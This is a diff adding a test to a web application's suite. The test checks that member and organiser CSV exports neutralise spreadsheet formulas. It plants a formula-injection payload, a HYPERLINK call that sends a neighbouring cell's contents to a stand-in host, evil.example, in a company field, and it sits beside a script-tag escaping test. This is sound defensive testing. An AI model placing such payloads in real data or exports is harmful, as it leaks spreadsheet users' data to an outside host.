@@ -145,3 +145,19 @@ def test_profile_text_is_escaped(client, company, make_member):
     html = client.get(company.get_absolute_url()).content.decode()
     assert "<script>alert(1)</script>" not in html
     assert "&lt;script&gt;" in html
+
+
+def test_exports_do_not_hand_formulas_to_spreadsheets(viewers, company):
+    company.main_products = '=HYPERLINK("http://evil.example/?"&B2,"点击")'
+    company.save()
+    for kind in ("member", "organiser"):
+        client = viewers(kind)
+        if kind == "member":
+            response = client.get(reverse("members:directory_export"), {"q": "隐私测试"})
+            text = response.content.decode("utf-8-sig")
+        else:
+            response = client.get(
+                reverse("members_organisations:index"), {"export": "csv", "q": "隐私测试"}
+            )
+            text = b"".join(response.streaming_content).decode("utf-8-sig")
+        assert "'=HYPERLINK" in text, kind
